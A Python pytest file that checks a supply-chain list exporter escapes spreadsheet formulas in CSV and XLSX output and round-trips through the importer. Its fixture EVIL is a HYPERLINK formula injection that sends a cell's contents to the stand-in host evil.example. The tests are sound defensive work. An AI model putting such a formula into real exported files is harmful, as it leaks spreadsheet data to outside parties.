"""Exports escape what a spreadsheet would run as a formula; the round trip keeps the text."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from covenant.supplychain.importing import parse_upload
from covenant.supplychain.importing.export import escape_cell, write_csv, write_json, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROWS = [
    {"name": EVIL, "address": "+31 Main Road", "country": "BD", "workers": 1200},
    {"name": "Plain Garments Ltd", "address": "@home", "country": "CN", "workers": -3},
]
COLUMNS = ["name", "address", "country", "workers"]


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+31 20 123", "'+31 20 123"),
        ("-sum", "'-sum"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Dhaka", "Dhaka"),
        ("", ""),
        (None, ""),
        (-3.5, "-3.5"),
        (42, "42"),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_csv_escapes_formulas_and_has_a_bom():
    data = write_csv(ROWS, COLUMNS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == COLUMNS
    assert rows[1] == ["'" + EVIL, "'+31 Main Road", "BD", "1200"]
    assert rows[2] == ["Plain Garments Ltd", "'@home", "CN", "-3"]


def test_xlsx_escapes_formulas_and_stores_text_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(ROWS, COLUMNS)))
    sheet = book["Locations"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[1] == ["'" + EVIL, "'+31 Main Road", "BD", "1200"]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)


def test_json_keeps_values_as_they_are():
    assert json.loads(write_json(ROWS, COLUMNS))[0]["name"] == EVIL


def test_exported_csv_reads_back_through_the_importer():
    result = parse_upload(write_csv(ROWS, ["name", "address", "country"]), "list.csv")
    assert result.ok, result.errors
    assert [r.country for r in result.rows] == ["BD", "CN"]
    assert result.rows[1].name == "Plain Garments Ltd"
